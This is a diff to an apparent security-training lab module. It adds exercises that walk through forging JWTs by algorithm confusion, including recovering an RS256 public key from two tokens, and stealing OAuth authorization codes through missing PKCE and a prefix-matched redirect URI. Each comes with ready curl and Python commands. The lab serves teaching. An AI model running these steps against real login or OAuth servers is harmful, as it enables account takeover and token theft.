@@ -13,6 +13,7 @@ from typing import Any, Callable
 from authcli.events import KeyChosen, SessionLookedUp, TokenChecked
 from authcli.server.journal import RequestRecord
 from authcli.server.lab.answer import ANSWER_PATH, VICTIM_PATH
+from authcli.walkthroughs.lab import practice_oauth as oauth
 
 LOGIN = ("curl -s -X POST {url}/login -H 'Content-Type: application/json' "
          "-d '{{\"email\":\"eve@example.com\",\"password\":\"eve\"}}'")
@@ -23,6 +24,17 @@ SUB = "--set sub='\"1\"'"  # sub is a StringOrURI: the JSON string "1", never th
 PEM = ("python3 -c 'import json,sys,jwt; from cryptography.hazmat.primitives import serialization as s; "
        "k=jwt.algorithms.RSAAlgorithm.from_jwk(json.load(sys.stdin)[\"keys\"][0]); "
        "sys.stdout.buffer.write(k.public_bytes(s.Encoding.PEM, s.PublicFormat.SubjectPublicKeyInfo))'")
+# Two of the server's tokens -> its RSA public key as PEM (authcli/tokens/recover.py: a gcd, checked
+# by verifying both signatures with the key found).
+RECOVER = ("python3 -c 'import sys; from authcli.tokens.parse import split; from authcli.tokens.recover import "
+           "recover; sys.stdout.buffer.write(recover(split(sys.argv[1]), split(sys.argv[2])).pem())'")
+CALLBACK = oauth.APP
+TOKEN = ("curl -s -X POST {url}/token -d grant_type=authorization_code -d code=THE_CODE -d client_id=THE_CLIENT "
+         "-d redirect_uri=")
+EVIL = CALLBACK + "/../../attacker"
+CHALLENGE = ("V=$(python3 -c 'import secrets; print(secrets.token_urlsafe(32))'); C=$(python3 -c 'import base64,"
+             "hashlib,sys; print(base64.urlsafe_b64encode(hashlib.sha256(sys.argv[1].encode()).digest()).rstrip(b\"=\")"
+             ".decode())' \"$V\")")
 DECODE = ("Log in as yourself (" + LOGIN + ") and decode the token it answers: authcli decode $TOKEN "
           "(without a key it shows what the token claims, unverified).")
 
@@ -166,6 +178,17 @@ EXERCISES: dict[str, Exercise] = {e.name: e for e in [
         "Write the key as PEM: curl -s {url}/.well-known/jwks.json | " + PEM + " > public.pem",
         f"authcli tamper $TOKEN {SUB} --alg HS256 --secret-file public.pem signs with those exact "
         "bytes (final newline kept). " + SEND), _foreign_key),
+    Exercise("alg-confusion-no-key", "Get this run's flag from GET /admin, which answers only user 1.",
+             (*JWT_TOOLS, "python3 with authcli.tokens.recover (pip install 'authcli[gmpy2]')"), (
+        DECODE + " It is RS256, and this server publishes no key: {url}/.well-known/jwks.json is 404.",
+        "An RS256 signature s is m^d mod n, where m is the PKCS #1 v1.5 encoding of header.payload's "
+        "SHA-256, which anyone can compute [^rfc8017-9.2]; with e = 65537, s^e - m is a multiple of n "
+        "for every token, so the gcd over two tokens gives the public key away [^portswigger-alg-confusion].",
+        "Log in twice (two tokens, T1 and T2), and recover the key as PEM with authcli's own code "
+        "(gmpy2 makes it seconds): " + RECOVER + " \"$T1\" \"$T2\" > public.pem",
+        "A verifier that lets the token's alg decide checks an HS256 token's HMAC with the public key's "
+        f"PEM [^rfc8725-3.1]: authcli tamper $TOKEN {SUB} --alg HS256 --secret-file public.pem. " + SEND),
+        _foreign_key),
     Exercise("kid-sql", "Get this run's flag from GET /admin, which answers only user 1.",
              (*JWT_TOOLS, "authcli sign"), (
         DECODE + " Its header's kid names the key the server should use: the name of a row in its "
@@ -234,6 +257,35 @@ EXERCISES: dict[str, Exercise] = {e.name: e for e in [
         "Send them: curl -s -X POST {url}/answer -H 'Content-Type: application/json' -d "
         "'{{\"emails\": [\"x@b.com\", \"y@b.com\"]}}'"),
         _answered, leaked="The 20 emails: {value}", path=ANSWER_PATH, route=ANSWER_PATH),
+    Exercise("no-pkce", "Get tokens for user 1 (a@b.com) from this authorization server's POST /token. User 1 "
+             "logged in through their app when this exercise started; a proxy logged the redirect that "
+             "carried the code (shown below).", ("curl",), (
+        f"The app is a public client: client_id only, no secret, redirect URI {CALLBACK}. The code in the "
+        "logged redirect is what the app would send to /token.",
+        "An authorization code travels in the redirect's URL, where history, logs and Referer headers can "
+        "keep it [^rfc6749-4.1.2]. PKCE binds it to a code_verifier only the app knows, and the server "
+        "must check it [^rfc7636-4.6]; this one does not ask for PKCE.",
+        "Redeem it as the app would, with no verifier: " + TOKEN + CALLBACK),
+        oauth.no_pkce, leaked="The app's client_id, then the redirect user 1's browser followed, from a proxy log: {value}",
+        path="/token"),
+    Exercise("redirect-prefix", "Get tokens for user 1 (a@b.com) from this authorization server's POST /token. "
+             "User 1 uses the app whose client_id is below and opens a link you send: POST JSON "
+             "{\"link\": \"...\"} to /victim, and user 1 logs in through it.", ("curl", "python3"), (
+        f"The app's registered redirect URI is {CALLBACK}. Ask for others and see what this server "
+        "accepts: curl -s -o /dev/null -w '%{{http_code}}\\n' '{url}/authorize?response_type=code&client_id="
+        "THE_CLIENT&scope=openid&state=x&code_challenge_method=S256&code_challenge=" + "A" * 43
+        + "&redirect_uri=" + EVIL + "'",
+        "This server takes any redirect URI that starts with a registered one; a browser resolves "
+        "/callback/../../attacker to /attacker, a page that is not the app's. Redirect URIs must be "
+        "compared as exact strings [^rfc9700-2.1]. PKCE is no help here: you start the flow, so the "
+        "code_verifier is yours [^rfc7636-4.2].",
+        "Make a verifier and its challenge: " + CHALLENGE + ". Send user 1 the link: curl -s -X POST "
+        "{url}/victim -H 'Content-Type: application/json' -d '{{\"link\": \"{url}/authorize?response_type=code"
+        f"&client_id=THE_CLIENT&scope=openid&state=x&code_challenge_method=S256&redirect_uri={EVIL}&"
+        "code_challenge='$C'\"}}'",
+        "This terminal shows where user 1's browser went: take the code from it. " + TOKEN + EVIL
+        + " -d code_verifier=$V"),
+        oauth.redirect_prefix, leaked="The app's client_id: {value}", path="/token", route=VICTIM_PATH),
     Exercise("fixation", "Get this run's flag from GET /admin, which answers only user 1. You can set a "
              "cookie in user 1's browser: POST JSON {\"sessionId\": \"...\"} to /victim, and user 1 logs "
              "in carrying it.", ("curl",), (
